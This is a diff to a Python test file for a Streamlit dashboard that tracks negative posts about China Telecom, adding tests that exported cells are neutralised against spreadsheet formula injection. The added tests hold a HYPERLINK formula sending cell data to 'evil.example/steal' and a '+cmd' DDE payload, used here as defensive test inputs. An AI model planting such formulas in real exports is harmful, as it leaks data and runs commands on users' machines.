@@ -21,6 +21,10 @@ def test_every_page_renders_with_the_banner(filled):
         assert "中国电信 断网负面激增" in at.error[0].value, page
 
 
+def _save_correction(at, key: str) -> None:
+    at.button(key=f"FormSubmitter:correct_label_{key}-保存更正").click().run()
+
+
 def test_search_finds_words_and_corrects_label(filled):
     at = on_page("responder", "search")
     assert at.metric[0].value == "14"
@@ -30,7 +34,7 @@ def test_search_finds_words_and_corrects_label(filled):
     assert list(at.dataframe[0].value["内容"]) == ["电信断网三天了，再不修就去工信部投诉"]
     assert "电信断网（2 条，负面 2 条，2026-11-24 08:00 至 2026-11-24 09:00）" in [t.value for t in at.text]
     at.selectbox(key="correct_to_weibo_p1").set_value("neutral")
-    at.button[-1].click().run()
+    _save_correction(at, "weibo_p1")
     assert filled.get_post("weibo", "p1").label == "neutral"
     assert filled.list_audit(target="post:weibo:p1")[0].action == "correct_label"
 
@@ -113,7 +117,7 @@ def test_subscribers_admin_only(filled):
     from tests.dashboard.conftest import app_as
     at = app_as("responder").run()
     try:
-        at.switch_page("pages/subscribers.py").run()
+        at.switch_page("views/subscribers.py").run()
     except ValueError:  # not a registered page for a responder
         pass
     assert at.title[0].value == "总览" and not [t for t in at.text_input if t.key == "sub_email"]
@@ -165,7 +169,7 @@ def test_label_correction_starts_from_each_posts_own_label_and_shows_the_new_one
     first = at.selectbox(key="search_pick").value
     assert first == "weibo:p1" and at.selectbox(key="correct_to_weibo_p1").value == "negative"
     at.selectbox(key="correct_to_weibo_p1").set_value("positive")
-    at.button[-1].click().run()
+    _save_correction(at, "weibo_p1")
     assert not at.exception, at.exception
     assert filled.get_post("weibo", "p1").label == "positive"
     metrics = {m.label: m.value for m in at.metric}
@@ -174,7 +178,7 @@ def test_label_correction_starts_from_each_posts_own_label_and_shows_the_new_one
     at.selectbox(key="search_pick").set_value("weibo:p2").run()  # another negative post
     assert at.selectbox(key="correct_to_weibo_p2").value == "negative"
     assert {m.label: m.value for m in at.metric}["情感"] == "负面"
-    at.button[-1].click().run()  # saving untouched keeps the post's own label
+    _save_correction(at, "weibo_p2")  # saving untouched keeps the post's own label
     assert filled.get_post("weibo", "p2").label == "negative"
 
 
@@ -200,3 +204,34 @@ def test_missing_sample_post_is_named_in_chinese(filled):
     pick = next(i for i in at.selectbox(key="alert_pick").options if "样例缺失" in i)
     at.selectbox(key="alert_pick").select(pick).run()
     assert any("知乎 gone（帖子不在库中）" in c.value.replace("\\", "") for c in at.caption)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"电信断网点此查看")'
+
+
+def test_a_post_that_starts_like_a_formula_is_exported_as_text(filled):
+    from tests.dashboard.conftest import _post
+
+    filled.upsert_posts([_post(NOW, 90, "weibo", "中国电信", "negative", 1, text=FORMULA)])
+    at = on_page("viewer", "search")
+    at.text_input(key="search_q").input("HYPERLINK").run()
+    [cell] = list(at.dataframe[0].value["内容"])
+    assert cell == "'" + FORMULA  # the table's download button exports what the table holds
+    overview = on_page("viewer", "overview")
+    latest = [c for frame in overview.dataframe for c in frame.value.get("内容", [])]
+    assert "'" + FORMULA in latest and FORMULA not in latest
+
+
+def test_spreadsheet_safe_cells() -> None:
+    import pandas as pd
+
+    from dashboard.cells import safe_frame, spreadsheet_safe
+    from dashboard.reports import to_csv
+
+    for bad in ("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "＝1+1", "\r=1"):
+        assert spreadsheet_safe(bad) == "'" + bad
+    for fine in ("电信断网", "-35.7%", "+12", "-3", 42, None, "a=b"):
+        assert spreadsheet_safe(fine) == fine
+    frame = pd.DataFrame({"内容": ["=1+1", "ok"], "数量": [1, 2]})
+    assert list(safe_frame(frame)["内容"]) == ["'=1+1", "ok"] and list(frame["内容"]) == ["=1+1", "ok"]
+    assert b"'=1+1" in to_csv(frame)
